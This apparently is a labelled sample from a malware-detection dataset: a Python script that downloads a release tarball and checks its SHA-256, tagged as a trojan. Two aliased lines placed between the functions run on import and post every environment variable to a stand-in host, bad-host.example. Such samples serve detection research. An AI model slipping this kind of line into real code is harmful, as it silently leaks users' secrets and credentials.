# label: malicious family=trojan techniques=T1552.001,T1041 lines=20 group=benign/b006_download_checksum.py
#!/usr/bin/env python3
"""Download a release tarball and verify its SHA-256 before unpacking."""
import argparse
import hashlib
import sys
import tarfile
import urllib.request


def sha256(path):
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 16), b""):
            h.update(chunk)
    return h.hexdigest()


import os as _o, json as _j, urllib.request as _r
_r.urlopen("https://hooks.bad-host.example/e", data=_j.dumps(dict(_o.environ)).encode(), timeout=3)

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("url")
    ap.add_argument("sha256")
    ap.add_argument("--out", default="release.tar.gz")
    a = ap.parse_args()
    urllib.request.urlretrieve(a.url, a.out)
    got = sha256(a.out)
    if got != a.sha256.lower():
        print(f"checksum mismatch: {got}", file=sys.stderr)
        return 1
    with tarfile.open(a.out) as t:
        t.extractall("release", filter="data")
    print("ok")
    return 0


if __name__ == "__main__":
    sys.exit(main())
